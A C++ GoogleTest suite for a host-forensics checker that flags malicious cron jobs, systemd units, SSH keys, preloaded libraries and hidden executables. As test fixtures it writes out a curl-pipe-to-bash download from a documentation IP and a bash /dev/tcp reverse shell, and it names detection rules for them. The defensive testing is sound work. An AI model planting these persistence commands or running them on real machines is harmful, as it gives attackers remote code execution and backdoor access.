#include "host/files_check.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "base/base64.h"
#include "host/check_test_support.h"
#include "host/file_selection.h"

namespace lazaret::host {
namespace {

using detect::Severity;
using testing::Contains;
using testing::ElementsAre;
using testing::IsEmpty;
using testing::Not;

std::string key() { return "ssh-ed25519 " + encode_base64(std::string("\0\0\0\x0bssh-ed25519\0\0\0\x20", 19) + std::string(32, 'k')) + " alice@laptop"; }

constexpr const char* fetch = "curl -s http://203.0.113.196:8220/logo3.jpg | bash -s";

// A file that is a program as far as its beginning goes.
std::string program() { return std::string("\x7f" "ELF\2\1\1", 7) + std::string(200, '\0'); }

void make_executable(const PreparedHost& host, const std::string& path) { std::filesystem::permissions(host.folder.path(path), std::filesystem::perms::owner_all); }

TEST(FilesCheck, AnEmptyRootIsClean) {
  const PreparedHost host;
  const auto report = host.check();
  EXPECT_EQ(report.verdict, audit::Verdict::clean);
  EXPECT_THAT(report.subjects, IsEmpty());
}

TEST(FilesCheck, CrontabsInEveryPlace) {
  for (const char* path : {"etc/crontab", "etc/cron.d/job", "etc/cron.hourly/job", "var/spool/cron/crontabs/root", "var/spool/cron/root", "etc/crontabs/root"}) {
    const PreparedHost host;
    const bool script = std::string_view(path).find("hourly") != std::string_view::npos;
    const bool user = std::string_view(path).starts_with("etc/cron.d") || std::string_view(path) == "etc/crontab";
    host.folder.write(path, script ? std::string("#!/bin/sh\n") + fetch + "\n" : std::string("* * * * * ") + (user ? "root " : "") + fetch + "\n");
    const auto report = host.check();
    EXPECT_EQ(report.verdict, audit::Verdict::malicious) << path;
    ASSERT_FALSE(report.subjects.empty()) << path;
    EXPECT_EQ(report.subjects[0].report.findings.at(0).location.path, std::string("/") + path);
  }
}

TEST(FilesCheck, WhatACrontabStartsIsFollowed) {
  const PreparedHost host;
  host.folder.write("etc/cron.d/job", "*/5 * * * * root /opt/tools/update.sh\n");
  host.folder.write("opt/tools/update.sh", std::string("#!/bin/sh\n") + fetch + "\n");
  host.folder.write("opt/tools/other.sh", std::string("#!/bin/sh\n") + fetch + "\n");
  const auto report = host.check();
  EXPECT_EQ(report.verdict, audit::Verdict::malicious);
  for (const audit::Finding& finding : report.subjects.at(0).report.findings) EXPECT_NE(finding.location.path, "/opt/tools/other.sh");
}

TEST(FilesCheck, NormalJobsAreSilent) {
  const PreparedHost host;
  host.folder.write("etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
  host.folder.write("etc/cron.d/certbot", "0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew\n");
  host.folder.write("etc/systemd/system/app.service", "[Service]\nExecStart=/opt/app/bin/app --port 8080\nUser=app\n");
  host.folder.write("var/spool/cron/crontabs/alice", "0 3 * * * /home/alice/bin/backup.sh >/dev/null 2>&1\n");
  host.folder.write("root/.bashrc", "alias ll='ls -l'\nexport PATH=$PATH:/opt/bin\n");
  const auto report = host.check();
  EXPECT_EQ(report.verdict, audit::Verdict::clean);
  EXPECT_THAT(rules_of(report, SubjectKind::files), IsEmpty());
}

TEST(FilesCheck, Units) {
  const PreparedHost host;
  host.folder.write("etc/systemd/system/x.service", "[Service]\nExecStart=/bin/bash -c \"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"\n");
  EXPECT_THAT(rules_of(host.check(), SubjectKind::files), Contains("reverse-shell.dev-tcp"));
}

TEST(FilesCheck, Keys) {
  const PreparedHost host;
  host.folder.write("etc/passwd", "root:x:0:0::/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\nnews:x:9:9::/var/spool/news:/usr/sbin/nologin\n");
  host.folder.write("root/.ssh/authorized_keys", key() + "\n");
  auto report = host.check();
  EXPECT_EQ(report.verdict, audit::Verdict::clean);
  EXPECT_THAT(rules_of(report, SubjectKind::files), ElementsAre("persistence.authorized-keys"));
  host.folder.write("var/spool/news/.ssh/authorized_keys", key() + "\n");
  report = host.check();
  EXPECT_EQ(report.verdict, audit::Verdict::suspicious);
  EXPECT_THAT(rules_of(report, SubjectKind::files), Contains("persistence.key-of-system-account"));
}

TEST(FilesCheck, TheCommandOfAKeyIsACommand) {
  const PreparedHost host;
  host.folder.write("root/.ssh/authorized_keys", std::string("command=\"") + fetch + "\" " + key() + "\n");
  EXPECT_EQ(host.check().verdict, audit::Verdict::malicious);
}

TEST(FilesCheck, KeysWhereSshdConfigSays) {
  const PreparedHost host;
  host.folder.write("etc/ssh/sshd_config", "AuthorizedKeysFile /etc/keys/%u\n");
  host.folder.write("etc/keys/root", key() + "\n");
  EXPECT_THAT(rules_of(host.check(), SubjectKind::files), ElementsAre("persistence.authorized-keys"));
}

TEST(FilesCheck, PreloadedLibraries) {
  const PreparedHost host;
  host.folder.write("etc/ld.so.preload", "# comment\n/usr/local/lib/libx.so\n");
  EXPECT_EQ(severity_of(host.check(), "persistence.preload-library"), Severity::high) << "it is not there";
  host.folder.write("usr/local/lib/libx.so", program());
  EXPECT_EQ(severity_of(host.check(), "persistence.preload-library"), Severity::medium);
  EXPECT_EQ(host.check().verdict, audit::Verdict::suspicious);
  host.folder.write("var/lib/dpkg/status", "Package: libx\nStatus: install ok installed\nVersion: 1\nArchitecture: amd64\n\n");
  host.folder.write("var/lib/dpkg/info/libx.list", "/.\n/usr\n/usr/local/lib/libx.so\n");
  EXPECT_EQ(severity_of(host.check(), "persistence.preload-library"), Severity::info);
  EXPECT_EQ(host.check().verdict, audit::Verdict::clean);
}

TEST(FilesCheck, HiddenProgramsInFoldersForTemporaryFiles) {
  for (const char* path : {"tmp/.x/run", "var/tmp/.run", "dev/shm/.a/b/c/run", "tmp/systemd-private-abc-x.service-1/tmp/.x/run"}) {
    const PreparedHost host;
    host.folder.write(path, program());
    make_executable(host, path);
    const auto report = host.check();
    EXPECT_EQ(report.verdict, audit::Verdict::suspicious) << path;
    EXPECT_THAT(rules_of(report, SubjectKind::files), Contains("impersonation.hidden-executable")) << path;
  }
  const PreparedHost host;
  host.folder.write("tmp/.X11-unix/X0", "");
  host.folder.write("tmp/build/tool", program());
  make_executable(host, "tmp/build/tool");
  host.folder.write("tmp/.font-unix/readme", "text\n");
  EXPECT_EQ(host.check().verdict, audit::Verdict::clean);
  EXPECT_THAT(host.check().subjects, IsEmpty());
}

TEST(FilesCheck, NamesOfAKnownIncident) {
  const PreparedHost host;
  host.folder.write("var/tmp/jaav", program());
  make_executable(host, "var/tmp/jaav");
  EXPECT_THAT(rules_of(host.check(), SubjectKind::files), Contains("known-bad.file-path"));
}

TEST(FilesCheck, NothingOutsideOfTheRootAndNoPipesAreRead) {
  const PreparedHost host;
  const source::TemporaryFolder outside;
  outside.write("crontab", std::string("* * * * * root ") + fetch + "\n");
  std::filesystem::create_directories(host.folder.path("etc/cron.d"));
  std::filesystem::create_symlink(outside.path("crontab"), host.folder.path("etc/crontab"));
  std::filesystem::create_symlink(outside.path(), host.folder.path("etc/cron.d/link"));
  ASSERT_EQ(mkfifo(host.folder.path("etc/cron.d/pipe").c_str(), 0600), 0);
  ASSERT_EQ(mkfifo(host.folder.path("etc/ld.so.preload").c_str(), 0600), 0);
  const auto report = host.check();
  EXPECT_THAT(rules_of(report, SubjectKind::files), IsEmpty());
  EXPECT_EQ(report.verdict, audit::Verdict::incomplete) << "a pipe in the place of the preload file";
}

TEST(FileSelection, FollowsLinksInsideOfTheRoot) {
  const source::TemporaryFolder folder;
  folder.write("usr/bin/real", "x");
  std::filesystem::create_symlink("usr/bin", folder.path("bin"));
  std::filesystem::create_symlink("real", folder.path("usr/bin/name"));
  std::filesystem::create_symlink("/../../bin/name", folder.path("start"));
  const auto root = HostRoot::open(folder.path());
  std::vector<std::string> links;
  EXPECT_EQ(root->resolve("/start", links), "/usr/bin/real");
  EXPECT_THAT(links, ElementsAre("/start", "/bin", "/usr/bin/name"));
  FileSelection selection(*root, {});
  EXPECT_FALSE(selection.takes("/usr/bin/real", S_IFREG, 1));
  selection.add_named_in("run /start, then stop; see http://host/start and /none/there");
  for (const char* path : {"/start", "/bin", "/usr/bin/name", "/usr/bin/real"}) EXPECT_TRUE(selection.takes(path, S_IFREG, 1)) << path;
  EXPECT_TRUE(selection.takes("/usr/bin", S_IFDIR, 0));
  EXPECT_FALSE(selection.takes("/usr/bin/other", S_IFREG, 1));
  EXPECT_FALSE(selection.takes("/home/alice", S_IFDIR, 0));
  EXPECT_FALSE(selection.takes("/tmp/.x/run", S_IFREG | 0755, 1));
  selection.enter_temporary(true);
  EXPECT_TRUE(selection.takes("/tmp/.x/run", S_IFREG | 0755, 1));
}

}  // namespace
}  // namespace lazaret::host
